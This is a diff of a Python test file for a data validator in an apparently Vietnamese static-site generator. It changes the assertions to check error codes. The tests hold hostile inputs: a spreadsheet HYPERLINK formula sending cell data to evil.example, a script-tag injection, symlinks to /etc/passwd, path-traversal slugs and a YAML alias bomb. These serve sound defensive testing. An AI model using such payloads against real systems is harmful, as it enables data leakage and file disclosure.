@@ -14,6 +14,7 @@ import yaml
 
 from generator.pipeline.validate import validate_tree
 from tests.conftest import build
+from tests.test_bad_files import fills
 from tests.oracle import read_csv
 from tests.pages import soup
 
@@ -49,8 +50,9 @@ def test_formula_payloads_are_refused_at_input_with_a_message():
 
     refused = [p for p in CORPUS if refused_at_input(p)]
     assert refused == ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")']
-    with pytest.raises(TextProblem, match="ô chứa công thức Excel"):
+    with pytest.raises(TextProblem) as caught:
         check_text(refused[0])
+    assert (caught.value.code, caught.value.params) == ("text-excel-formula", {"what": "hàm HYPERLINK"})
 
 
 def first_commune(data: Path) -> Path:
@@ -189,7 +191,7 @@ def test_payloads_in_identifiers_fail_with_clear_messages(data_copy):
         writer.writerows(rows)
     problems = validate_tree(data_copy)
     hit = next(p for p in problems.errors if p.file.endswith(revenue.name) and p.row == 3)
-    assert hit.column == "Thuộc mục" and "mã nhóm không có trong bảng" in hit.message
+    assert (hit.column, hit.value, hit.code) == ("Thuộc mục", "<script>alert(1)</script>", "budget.parent-unknown")
 
 
 @pytest.mark.parametrize("target", ["/etc/passwd", "outside"])
@@ -204,7 +206,7 @@ def test_symlinked_data_file_is_refused(data_copy, tmp_path, target):
     os.symlink(target, listing)
     problems = validate_tree(data_copy)
     hit = next(p for p in problems.errors if p.file.endswith("danh-sach.csv"))
-    assert "liên kết tượng trưng" in hit.message
+    assert hit.code == "symlink"
     result = build(data_copy, tmp_path, jobs=1)
     assert not result.ok
     for page in (tmp_path / "site").rglob("*"):
@@ -219,7 +221,7 @@ def test_symlinked_unit_folder_outside_data_is_refused(data_copy, tmp_path):
     (outside / "unit.yaml").write_text('code: "99888"\ntype: xã\nname: Ngoài\n', encoding="utf-8")
     os.symlink(outside, data_copy / "tinh-binh-son" / "xa-ngoai")
     problems = validate_tree(data_copy)
-    assert any("symlink" in p.message and p.file.endswith("xa-ngoai") for p in problems.errors)
+    assert any(p.code == "unit-folder-symlink" and p.file.endswith("xa-ngoai") for p in problems.errors)
 
 
 @pytest.mark.parametrize("slug", ["../../etc", "/tmp/x", "a/../../b", "XA-A"])
@@ -229,7 +231,7 @@ def test_unit_slug_cannot_escape_the_output(data_copy, slug):
     unit_file.write_text(unit_file.read_text(encoding="utf-8") + f'slug: "{slug}"\n', encoding="utf-8")
     problems = validate_tree(data_copy)
     hit = next(p for p in problems.errors if p.file == f"{commune.relative_to(data_copy).as_posix()}/unit.yaml")
-    assert hit.column == "slug (đường dẫn)" and hit.value == slug
+    assert (hit.column, hit.value, hit.code) == ("slug (đường dẫn)", slug, "unit-slug-format")
 
 
 def test_yaml_alias_bomb_and_huge_file_get_messages(data_copy):
@@ -243,9 +245,9 @@ def test_yaml_alias_bomb_and_huge_file_get_messages(data_copy):
     with other.open("w", encoding="utf-8") as handle:
         handle.write("title: " + "x" * (3 * 1024 * 1024) + "\n")
     problems = validate_tree(data_copy)
-    shown = {p.file: p.message for p in problems.errors}
-    assert "tham chiếu (alias «*»)" in shown[meta.relative_to(data_copy).as_posix()]
-    assert "tệp quá lớn" in shown[other.relative_to(data_copy).as_posix()]
+    shown = {p.file: p.code for p in problems.errors}
+    assert shown[meta.relative_to(data_copy).as_posix()] == "yaml-aliases-expand"
+    assert shown[other.relative_to(data_copy).as_posix()] == "yaml-too-large"
 
 
 def test_duplicate_yaml_keys_are_named_not_silently_dropped(data_copy):
@@ -254,4 +256,7 @@ def test_duplicate_yaml_keys_are_named_not_silently_dropped(data_copy):
     meta.write_text(meta.read_text(encoding="utf-8") + "title: Tiêu đề thứ hai\n", encoding="utf-8")
     problems = validate_tree(data_copy)
     hit = next(p for p in problems.errors if p.file == meta.relative_to(data_copy).as_posix())
-    assert "mục «title» được ghi hai lần" in hit.message
+    lines = meta.read_text(encoding="utf-8").splitlines()
+    first = next(n for n, line in enumerate(lines, start=1) if line.startswith("title:"))
+    assert hit.code == "yaml-key-twice"
+    assert fills(hit.message, hit.code, {"key": "title", "at_line": len(lines), "first": first})
